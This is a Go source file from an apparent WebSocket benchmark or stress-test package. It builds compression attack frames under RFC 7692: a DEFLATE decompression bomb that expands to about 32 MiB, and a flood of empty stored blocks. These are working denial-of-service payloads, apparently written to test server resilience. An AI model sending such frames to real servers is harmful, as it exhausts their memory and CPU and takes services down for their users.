package bench

import (
	"bytes"
	"compress/flate"

	"github.com/gobwas/ws"
)

// The attacks on compression (RFC 7692). A message is a sequence of DEFLATE
// blocks, of which the last four bytes of the last, empty one are left out.

// deflated returns the frame of a compressed binary message.
func deflated(blocks []byte) []byte {
	return masked(ws.Header{Fin: true, Rsv: ws.Rsv(true, false, false), OpCode: ws.OpBinary}, blocks)
}

// bomb sends zeros, of which DEFLATE makes one byte from a thousand.
func bomb() attacker {
	const inflated = 32 << 20
	var out bytes.Buffer
	w, err := flate.NewWriter(&out, flate.DefaultCompression)
	if err != nil {
		panic(err) // the level is a constant
	}
	zeros := make([]byte, 64<<10)
	for range inflated / len(zeros) {
		_, _ = w.Write(zeros) // a buffer takes all
	}
	_ = w.Flush()
	return newFlood(nil, deflated(bytes.TrimSuffix(out.Bytes(), []byte{0x00, 0x00, 0xff, 0xff})))
}

// emptyBlocks sends stored blocks of length 0, five bytes each (RFC 1951
// §3.2.4).
func emptyBlocks() attacker {
	const longest = 60_000 // bytes; many servers take 64 KiB at most
	block := []byte{0x00, 0x00, 0x00, 0xff, 0xff}
	blocks := bytes.Repeat(block, longest/len(block))
	return newFlood(nil, deflated(append(blocks, 0x00)))
}
